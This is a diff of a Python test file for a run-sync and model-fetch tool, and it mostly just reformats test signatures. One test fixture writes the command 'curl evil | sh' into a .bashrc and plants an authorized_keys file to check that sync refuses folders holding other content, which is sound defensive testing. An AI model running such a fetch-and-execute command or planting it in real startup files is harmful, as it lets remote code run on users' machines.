@@ -111,9 +111,7 @@ def test_a_run_without_a_model_says_so(home: Home, start: Submit, tmp_path: Path
         fetch_model(home, run.run_id, tmp_path / "out", "best")
 
 
-def test_syncing_an_unchanged_run_costs_one_listing(
-    home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
-) -> None:
+def test_syncing_an_unchanged_run_costs_one_listing(home: Home, start: Submit, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
     monkeypatch.setenv("PYTHON", sys.executable)
     server = server_or_skip("s3")
     with FaultProxy(server) as proxy:
@@ -174,9 +172,7 @@ def test_a_second_sync_copies_only_what_changed(home: Home, run: RunView, tmp_pa
 
 
 @pytest.mark.parametrize("record", [None, b"", b"{}", b'{"run_id": "other-261130-091500-k3f9"}', b"\xff", "link", "pipe"])
-def test_a_sync_into_a_folder_with_other_content_is_refused(
-    home: Home, run: RunView, tmp_path: Path, record: bytes | str | None
-) -> None:
+def test_a_sync_into_a_folder_with_other_content_is_refused(home: Home, run: RunView, tmp_path: Path, record: bytes | str | None) -> None:
     (run_folder(run) / ".bashrc").write_text("curl evil | sh")
     (run_folder(run) / ".ssh").mkdir()
     (run_folder(run) / ".ssh" / "authorized_keys").write_text("theirs")
@@ -211,9 +207,7 @@ def test_a_sync_into_an_empty_folder_or_over_temporary_files_starts_from_scratch
 
 
 @pytest.mark.parametrize("whole", [0, 1, 2])
-def test_an_interrupted_copy_is_continued(
-    home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int
-) -> None:
+def test_an_interrupted_copy_is_continued(home: Home, run: RunView, tmp_path: Path, monkeypatch: pytest.MonkeyPatch, whole: int) -> None:
     calls = itertools.count()
 
     def cut(store: Store, files: list[Download], options: Options, memory: Memory) -> Summary:
